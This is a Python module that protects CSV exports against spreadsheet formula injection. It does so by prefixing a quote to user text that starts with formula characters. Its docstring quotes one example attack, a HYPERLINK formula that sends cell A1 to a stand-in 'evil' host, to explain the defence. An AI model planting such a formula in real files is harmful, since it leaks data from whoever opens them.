"""Text cells of every CSV file trackgate writes (report exports, the CLI's ``--csv``).

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and
some also after a leading tab or carriage return), so a description such as
``=HYPERLINK("http://evil/?x="&A1,"click")`` would run in the spreadsheet of whoever opens the
export. As OWASP recommends against CSV injection, such text gets a leading ``'``: the
spreadsheet shows it as text. Only text that people typed (descriptions, names, emails) goes
through here; numbers trackgate writes itself (durations, amounts) stay numbers. JSON answers
are not touched: they carry the raw value.
"""

from __future__ import annotations

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value: str) -> str:
    """``value`` as a CSV cell a spreadsheet shows as text, never as a formula."""
    return "'" + value if value.startswith(FORMULA_LEADS) else value
